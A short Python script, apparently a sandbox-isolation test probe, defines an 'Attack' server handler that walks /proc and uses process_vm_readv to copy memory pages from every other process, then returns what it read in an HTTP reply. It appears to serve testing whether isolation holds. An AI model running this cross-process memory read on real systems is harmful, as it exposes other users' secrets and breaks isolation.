import ctypes
import os

import probe
import server


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def copied(pid, address):
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(4096)
    here = Vector(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    there = Vector(address, 4096)
    done = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return buffer.raw[:done] if done > 0 else b""


class Attack(server.Broken):
    def answer(self):
        looked = probe.Probe()
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) == os.getpid():
                continue
            looked.count("others")
            looked.memory(pid)
            for address in range(0x400000, 0x500000, 4096):
                looked.see("copied", copied(int(pid), address))
        print(looked.report(), flush=True)
        self.reply(200, looked.report())


server.serve(Attack)
